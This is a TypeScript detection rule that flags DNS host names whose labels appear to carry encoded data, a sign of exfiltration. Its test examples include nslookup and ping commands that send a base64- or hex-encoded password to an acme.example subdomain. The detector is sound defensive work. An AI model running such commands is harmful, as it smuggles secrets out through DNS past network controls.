import { labelsCarry } from '../../attack/carries.ts';
import type { Recogniser } from '../../recogniser.ts';

const HOST = /(?<![\w.@/%:=-])[A-Za-z\d_-]{12,63}\.[A-Za-z\d._-]{4,200}(?![A-Za-z\d._-])/;

/** A name that is looked up reaches the name server of its domain, even where nothing else may leave. */
export const dns: Recogniser = {
  type: 'exfiltration.dns',
  name: 'Host name whose labels carry data',
  exceptable: false,
  forms: [
    {
      find: HOST,
      score: 0.8,
      host: (match) => match.toLowerCase().replace(/\.$/, ''),
      accepts: (match) => /\.[A-Za-z]{2,24}\.?$/.test(match) && labelsCarry(match.replace(/\.$/, '')),
    },
  ],
  source: 'RFC 1035, labels',
  since: '0.2.0',
  finds: [
    'nslookup «cGFzc3dvcmQgaXMgS2VzdHJlbA.x.acme.example»',
    'ping «70617373776f72643a204b65737472656c.ns1.acme.example»',
  ],
  ignores: [
    'd111111abcdef8.cloudfront.example',
    'ec2-203-0-113-25.compute-1.acme.example',
    'documentation.querySelectorAll.call',
    'internationalization.acme.example',
    'my-very-long-host-name-0123456789.eu-west-1.acme.example',
  ],
};
